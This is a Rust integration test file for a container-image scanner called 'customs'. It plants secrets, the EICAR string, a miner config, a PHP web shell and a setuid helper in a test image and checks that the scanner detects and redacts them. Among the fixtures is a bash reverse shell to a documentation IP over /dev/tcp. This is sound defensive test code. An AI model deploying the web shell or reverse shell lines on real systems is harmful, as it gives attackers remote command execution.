//! Secrets, malware and misconfiguration end to end through `customs scan`: an image built here
//! with secrets generated at run time (in files, ENV and the history), the EICAR string assembled at
//! run time, a miner config, a PHP web shell and a reverse shell; every output format; ClamAV
//! through a real clamd with a signature database written here; and a clean Debian bookworm
//! (debootstrap, prepared by scripts/test.sh) with nothing to report.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};


fn customs() -> &'static Path {
    Path::new(env!("CARGO_BIN_EXE_customs"))
}

fn cli(args: &[&str]) -> Output {
    Command::new(customs()).args(args).stdin(Stdio::null()).output().expect("customs runs")
}

fn cli_ok(args: &[&str]) -> String {
    let out = cli(args);
    assert!(out.status.success(), "customs {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

/// Random characters from `alphabet`, seeded by the clock: different on every run.
fn random(n: usize, alphabet: &str) -> String {
    let mut x = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos() as u64 | 1;
    let chars: Vec<char> = alphabet.chars().collect();
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            chars[(x % chars.len() as u64) as usize]
        })
        .collect()
}

const ALNUM: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

fn eicar() -> String {
    ["X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"].concat()
}

fn tar_gz(files: &[(&str, &[u8], u32)]) -> Vec<u8> {
    test_support::layer_tar_gz(files)
}

struct Planted {
    github: String,
    npm: String,
    aws: String,
    build_arg: String,
    rsa: String,
}

fn build(dir: &Path) -> Planted {
    let planted = Planted {
        github: format!("ghp_{}", random(36, ALNUM)),
        npm: format!("npm_{}", random(36, ALNUM)),
        aws: format!("AKIA{}", random(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")),
        build_arg: format!("glpat-{}", random(20, ALNUM)),
        rsa: {
            let out = Command::new("openssl").args(["genrsa", "-traditional", "2048"]).output().expect("openssl runs");
            String::from_utf8(out.stdout).unwrap()
        },
    };
    let miner = r#"{"donate-level": 1, "randomx": {"mode": "auto"}, "pools": [{"algo": "rx/0", "url": "stratum+tcp://pool.example.net:3333"}]}"#;
    let layer = tar_gz(&[
        ("etc/os-release", b"ID=debian\nVERSION_ID=\"12\"\n", 0o644),
        ("app/.env", format!("LOG=info\nGITHUB_TOKEN={}\n", planted.github).as_bytes(), 0o600),
        ("root/.npmrc", format!("//registry.npmjs.org/:_authToken={}\n", planted.npm).as_bytes(), 0o600),
        ("srv/keys/id_rsa", planted.rsa.as_bytes(), 0o600),
        ("tmp/eicar.com", eicar().as_bytes(), 0o644),
        ("opt/miner/config.json", miner.as_bytes(), 0o644),
        ("var/www/html/shell.php", b"<?php system($_GET['cmd']); ?>", 0o644),
        ("usr/local/bin/backdoor.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/9001 0>&1\n", 0o755),
        ("usr/local/bin/helper", b"#!/bin/sh\nexec id\n", 0o4755),
    ]);
    let config = serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "config": {
            "Env": ["PATH=/usr/bin", format!("AWS_ACCESS_KEY_ID={}", planted.aws), "DB_PASSWORD=s3cret-value-1"],
            "ExposedPorts": {"22/tcp": {}},
            "Cmd": ["/app/run"],
        },
        "rootfs": {"type": "layers", "diff_ids": []},
        "history": [
            {"created_by": "/bin/sh -c #(nop) ADD https://example.net/tool.tgz /opt/"},
            {"created_by": format!("|1 GITLAB_TOKEN={} /bin/sh -c git clone https://gitlab.example.com/app.git", planted.build_arg)},
        ],
    });
    test_support::write_image(dir, "app", &config, vec![layer]).unwrap();
    planted
}

fn pairs(list: &serde_json::Value, a: &str, b: &str) -> Vec<(String, String)> {
    list.as_array().unwrap().iter().map(|x| (x[a].as_str().unwrap_or("").to_owned(), x[b].as_str().unwrap_or("").to_owned())).collect()
}

fn validate(kind: &str, file: &Path) {
    let python = std::env::var("TEST_PYTHON").unwrap_or_else(|_| "python3".into());
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/validate-sbom.py");
    let out = Command::new(python).arg(script).arg(kind).arg(file).output().unwrap();
    assert!(out.status.success(), "{kind}: {}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
}

#[test]
fn secrets_malware_and_misconfiguration_in_every_format() {
    let tmp = tempfile::tempdir().unwrap();
    let layout = tmp.path().join("layout");
    let planted = build(&layout);
    let target = format!("{}:app", layout.display());
    let out = cli_ok(&["scan", &target, "--skip-db", "--format", "json"]);
    for secret in [&planted.github, &planted.npm, &planted.aws, &planted.build_arg] {
        assert!(!out.contains(&secret[4..]), "the report holds no secret");
    }
    assert!(!out.contains(&planted.rsa.lines().nth(1).unwrap()[..20]));
    let json: serde_json::Value = serde_json::from_str(&out).unwrap();
    let secrets = pairs(&json["secrets"], "rule", "path");
    for want in [
        ("github-pat", "app/.env"),
        ("npmrc-auth", "root/.npmrc"),
        ("private-key-rsa", "srv/keys/id_rsa"),
        ("aws-access-key-id", "config:Env"),
        ("gitlab-pat", "history:1"),
    ] {
        assert!(secrets.contains(&(want.0.into(), want.1.into())), "{want:?} not in {secrets:#?}");
    }
    let gh = json["secrets"].as_array().unwrap().iter().find(|s| s["rule"] == "github-pat").unwrap();
    assert_eq!((gh["line"].as_u64(), gh["redacted"].as_str()), (Some(2), Some("ghp_********")));
    assert!(gh["fingerprint"].as_str().unwrap().starts_with("sha256:"));
    assert_eq!(gh["layer"], json["layers"][0]);
    let malware = pairs(&json["malware"], "rule", "path");
    for want in [
        ("EICAR_Test_File", "tmp/eicar.com"),
        ("Miner_XMRig_Config", "opt/miner/config.json"),
        ("Miner_Stratum_URL", "opt/miner/config.json"),
        ("Webshell_PHP_Request_Exec", "var/www/html/shell.php"),
        ("ReverseShell_Bash_DevTcp", "usr/local/bin/backdoor.sh"),
    ] {
        assert!(malware.contains(&(want.0.into(), want.1.into())), "{want:?} not in {malware:#?}");
    }
    assert!(json["malware"].as_array().unwrap().iter().any(|m| m["engine"] == "sha256" && m["path"] == "tmp/eicar.com"));
    let mis: Vec<String> = json["misconfigurations"].as_array().unwrap().iter().map(|m| m["id"].as_str().unwrap().to_owned()).collect();
    for want in ["setuid-file", "root-user", "secret-env", "ssh-exposed", "add-remote-url", "no-healthcheck"] {
        assert!(mis.contains(&want.to_owned()), "{want} not in {mis:?}");
    }
    // Other formats carry them too.
    let sarif: serde_json::Value = serde_json::from_str(&cli_ok(&["scan", &target, "--skip-db", "--format", "sarif"])).unwrap();
    let ids: Vec<&str> = sarif["runs"][0]["results"].as_array().unwrap().iter().map(|r| r["ruleId"].as_str().unwrap()).collect();
    for want in ["secret/github-pat", "malware/EICAR_Test_File", "config/root-user"] {
        assert!(ids.contains(&want), "{want} not in {ids:?}");
    }
    for (format, kind) in [("cyclonedx", "cyclonedx"), ("spdx", "spdx")] {
        let file = tmp.path().join(format!("{format}.json"));
        cli_ok(&["scan", &target, "--skip-db", "--format", format, "--output", file.to_str().unwrap()]);
        validate(kind, &file);
        let text = std::fs::read_to_string(&file).unwrap();
        assert!(text.contains("secret github-pat") && text.contains("malware EICAR_Test_File") && text.contains("misconfiguration root-user"), "{format}");
        assert!(!text.contains(&planted.github[4..]));
    }
    let table = cli_ok(&["scan", &target, "--skip-db"]);
    assert!(table.contains("secrets (") && table.contains("malware (") && table.contains("misconfigurations ("), "{table}");
    // Only what is asked for; gating on any finding.
    let only_vuln: serde_json::Value = serde_json::from_str(&cli_ok(&["scan", &target, "--skip-db", "--scanners", "vuln", "--format", "json"])).unwrap();
    for key in ["secrets", "malware", "misconfigurations"] {
        assert_eq!(only_vuln[key], serde_json::json!([]), "{key}");
    }
    let out = cli(&["scan", &target, "--skip-db", "--scanners", "secret", "--exit-code", "4"]);
    assert_eq!(out.status.code(), Some(4));
    // A user rule file turns a rule off.
    let rules = tmp.path().join("rules.toml");
    std::fs::write(&rules, "disable = [\"github-pat\"]\n").unwrap();
    let json: serde_json::Value = serde_json::from_str(&cli_ok(&["scan", &target, "--skip-db", "--scanners", "secret", "--secret-rules", rules.to_str().unwrap(), "--format", "json"])).unwrap();
    assert!(!pairs(&json["secrets"], "rule", "path").iter().any(|(r, _)| r == "github-pat"));
    // A user YARA directory adds rules.
    let yara = tmp.path().join("yara");
    std::fs::create_dir_all(&yara).unwrap();
    std::fs::write(yara.join("ours.yar"), "rule Our_Helper { meta: description = \"our helper\" strings: $a = \"exec id\" condition: $a }\n").unwrap();
    let json: serde_json::Value = serde_json::from_str(&cli_ok(&["scan", &target, "--skip-db", "--scanners", "malware", "--malware-rules", yara.to_str().unwrap(), "--format", "json"])).unwrap();
    assert!(pairs(&json["malware"], "rule", "path").contains(&("Our_Helper".into(), "usr/local/bin/helper".into())), "{}", json["malware"]);
    std::fs::write(&rules, "[[rule]]\nid = 5\n").unwrap();
    let out = cli(&["scan", &target, "--skip-db", "--secret-rules", rules.to_str().unwrap()]);
    assert!(!out.status.success() && String::from_utf8_lossy(&out.stderr).contains("rules.toml"));
}

/// A clamd on a socket in `dir` with one signature database holding EICAR (freshclam cannot reach
/// the internet here).
struct Clamd {
    child: std::process::Child,
    socket: PathBuf,
}

impl Drop for Clamd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start_clamd(dir: &Path) -> Clamd {
    let db = dir.join("db");
    std::fs::create_dir_all(&db).unwrap();
    let hex: String = eicar().bytes().map(|b| format!("{b:02x}")).collect();
    std::fs::write(db.join("customs-test.ndb"), format!("Customs.Test.EICAR:0:*:{hex}\n")).unwrap();
    let socket = dir.join("clamd.sock");
    let conf = dir.join("clamd.conf");
    let user = if unsafe { libc_geteuid() } == 0 { "User root\n" } else { "" };
    std::fs::write(
        &conf,
        format!("LocalSocket {}\nDatabaseDirectory {}\nForeground yes\nLogFile {}\n{user}", socket.display(), db.display(), dir.join("clamd.log").display()),
    )
    .unwrap();
    let clamd = ["/usr/sbin/clamd", "clamd"].into_iter().find(|c| Path::new(c).exists() || *c == "clamd").unwrap();
    let child = Command::new(clamd).arg("-c").arg(&conf).stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("clamd runs (scripts/test.sh installs clamav-daemon)");
    let started = Instant::now();
    while !socket.exists() {
        assert!(started.elapsed() < Duration::from_secs(60), "clamd did not open its socket: {}", std::fs::read_to_string(dir.join("clamd.log")).unwrap_or_default());
        std::thread::sleep(Duration::from_millis(100));
    }
    Clamd { child, socket }
}

unsafe extern "C" {
    #[link_name = "geteuid"]
    fn libc_geteuid() -> u32;
}

#[test]
fn clamav_verdicts_through_a_real_clamd() {
    let tmp = tempfile::tempdir().unwrap();
    let clamd = start_clamd(tmp.path());
    let root = tmp.path().join("root");
    std::fs::create_dir_all(root.join("tmp")).unwrap();
    std::fs::write(root.join("tmp/eicar.txt"), eicar()).unwrap();
    std::fs::write(root.join("tmp/clean.txt"), "nothing to see\n").unwrap();
    let json: serde_json::Value = serde_json::from_str(&cli_ok(&[
        "scan", root.to_str().unwrap(), "--skip-db", "--scanners", "malware", "--clamd", clamd.socket.to_str().unwrap(), "--format", "json",
    ]))
    .unwrap();
    let clam: Vec<&serde_json::Value> = json["malware"].as_array().unwrap().iter().filter(|m| m["engine"] == "clamav").collect();
    assert_eq!(clam.len(), 1, "{}", json["malware"]);
    assert_eq!(clam[0]["path"], "tmp/eicar.txt");
    assert!(clam[0]["rule"].as_str().unwrap().starts_with("Customs.Test.EICAR"), "{}", clam[0]);
    // A clamd that is not there is an error before any work, not a silent pass.
    let out = cli(&["scan", root.to_str().unwrap(), "--skip-db", "--clamd", tmp.path().join("nope.sock").to_str().unwrap()]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("clamd"));
}

#[test]
fn a_clean_debian_bookworm_has_no_secrets_and_no_malware() {
    let root = std::env::var("BOOKWORM_ROOTFS").expect("BOOKWORM_ROOTFS: scripts/test.sh debootstraps a bookworm and names it here");
    let json: serde_json::Value = serde_json::from_str(&cli_ok(&["scan", &root, "--skip-db", "--scanners", "secret,malware", "--format", "json"])).unwrap();
    assert_eq!(json["os"]["id"], "debian");
    assert!(json["packages"].as_array().unwrap().len() > 50);
    assert_eq!(json["secrets"], serde_json::json!([]), "secrets in a clean bookworm");
    assert_eq!(json["malware"], serde_json::json!([]), "malware in a clean bookworm");
}

#[test]
fn policy_test_and_eval_from_the_cli() {
    let cases = Path::new(env!("CARGO_MANIFEST_DIR")).join("../policy/tests/cases");
    let out = cli_ok(&["policy", "test", "paved-road", cases.to_str().unwrap()]);
    assert!(out.contains("cases, 0 failed"), "{out}");
    // A case the policy does not satisfy makes the command fail and says why.
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join("wrong.json"), r#"{"input": {"malware": [{"rule": "X", "path": "p", "engine": "yara"}]}, "expect": {"allow": true}}"#).unwrap();
    let out = cli(&["policy", "test", "paved-road", tmp.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("FAIL"));
    // The evidence of a scan, judged: the planted image is denied, with its reasons.
    let layout = tmp.path().join("layout");
    build(&layout);
    let report = tmp.path().join("report.json");
    cli_ok(&["scan", &format!("{}:app", layout.display()), "--skip-db", "--format", "json", "--output", report.to_str().unwrap()]);
    let out = cli(&["policy", "eval", "paved-road", report.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "denied");
    let d: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let deny: Vec<&str> = d["deny"].as_array().unwrap().iter().map(|r| r.as_str().unwrap()).collect();
    assert!(deny.iter().any(|r| r.starts_with("malware: EICAR_Test_File")), "{deny:?}");
    assert!(deny.iter().any(|r| r.starts_with("secret: github-pat in app/.env")), "{deny:?}");
    // A user's policy file, and a broken one.
    let mine = tmp.path().join("mine.rego");
    std::fs::write(&mine, "package customs\nimport rego.v1\ndeny contains \"no\" if input.target.kind == \"oci-layout\"\n").unwrap();
    let out = cli(&["policy", "eval", mine.to_str().unwrap(), report.to_str().unwrap()]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("\"no\""));
    std::fs::write(&mine, "package customs\ndeny contains x if {").unwrap();
    let out = cli(&["policy", "eval", mine.to_str().unwrap(), report.to_str().unwrap()]);
    assert!(!out.status.success() && String::from_utf8_lossy(&out.stderr).contains("mine.rego"));
}
